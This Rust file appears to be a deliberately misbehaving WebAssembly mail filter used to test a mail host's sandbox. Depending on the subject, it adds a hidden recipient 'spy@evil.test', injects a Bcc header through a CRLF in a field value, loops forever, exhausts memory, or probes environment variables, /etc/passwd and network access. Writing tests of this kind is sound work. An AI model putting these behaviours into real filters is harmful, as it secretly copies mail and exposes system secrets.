//! A filter that misbehaves, chosen by the subject.
//!
//! | subject | what it does |
//! |---|---|
//! | `reject` | rejects, with the code `on-request` |
//! | `edit` | a footer, a field `X-Seen` that tells the size of the text, another subject |
//! | `recipient` | adds one |
//! | `inject` | a field whose value holds a line break |
//! | `everything` | a hundred and one edits |
//! | `trap` | traps |
//! | `loop` | never returns |
//! | `eat` | allocates without end |
//! | `flood` | reads the headers without end |
//! | `hold` | opens the message's bytes without end and keeps every handle |
//! | `powers` | rejects, and tells in `detail` what of its environment, files and network it found |
//!
//! Anything else is accepted.
//!
//! Built for wasm32-wasip2 only.
#![cfg(target_family = "wasm")]
#![expect(clippy::panic, reason = "it misbehaves")]

use std::env;
use std::fs;
use std::net::{TcpStream, ToSocketAddrs};

mod bindings {
    //! What wit-bindgen makes of the world `before-send-filter`.
    wit_bindgen::generate!({
        world: "before-send-filter",
        path: "../../../wit",
        generate_all,
    });
}

use bindings::exports::postlet::mail::before_send::{Envelope, Guest, Verdict};
use bindings::postlet::mail::filtering::{Edit, Footer, Refusal};
use bindings::postlet::mail::reading::{Body, Message};
use bindings::postlet::mail::types::Header;

struct Component;

#[expect(unsafe_code, reason = "the component model's export shims are unsafe functions")]
const _: () = {
    bindings::export!(Component with_types_in bindings);
};

impl Guest for Component {
    fn judge(message: &Message, _envelope: Envelope) -> Verdict {
        let subject = message.summary().facts.subject.unwrap_or_default();
        match subject.as_str() {
            "reject" => reject("as you wished".to_owned()),
            "edit" => Verdict::Modify(vec![
                Edit::AddFooter(Footer { text: "-- below".to_owned(), html: None }),
                field("X-Seen", &text(message).len().to_string()),
                Edit::SetSubject("edited".to_owned()),
            ]),
            "recipient" => Verdict::Modify(vec![Edit::AddRecipient("spy@evil.test".to_owned())]),
            "inject" => Verdict::Modify(vec![field("X-A", "1\r\nBcc: spy@evil.test")]),
            "everything" => Verdict::Modify((0..101).map(|_| field("X-A", "1")).collect()),
            "trap" => panic!("on request"),
            "loop" => spin(),
            "eat" => eat(),
            "flood" => loop {
                let _ = message.headers();
            },
            "hold" => {
                let mut held = Vec::new();
                loop {
                    held.push(message.raw());
                }
            }
            "powers" => reject(powers()),
            _ => Verdict::Accept,
        }
    }
}

fn reject(detail: String) -> Verdict {
    Verdict::Reject(Refusal { code: "on-request".to_owned(), detail })
}

fn field(name: &str, value: &str) -> Edit {
    Edit::AddHeader(Header { name: name.to_owned(), value: value.to_owned() })
}

fn text(message: &Message) -> String {
    message.body(Body::Text, 1_000_000).ok().flatten().unwrap_or_default()
}

fn spin() -> ! {
    let mut number = 0_u64;
    loop {
        number = std::hint::black_box(number.wrapping_add(1));
    }
}

fn eat() -> ! {
    let mut held = Vec::new();
    loop {
        held.push(std::hint::black_box(vec![1_u8; 1 << 20]));
    }
}

fn powers() -> String {
    let names: Vec<_> = env::vars().map(|(name, _)| name).collect();
    let files = fs::read_dir("/").is_ok() || fs::read("/etc/passwd").is_ok();
    let connected = TcpStream::connect("127.0.0.1:25").is_ok();
    let resolved = "localhost:25".to_socket_addrs().is_ok();
    format!("environment {names:?}, files {files}, network {}", connected || resolved)
}
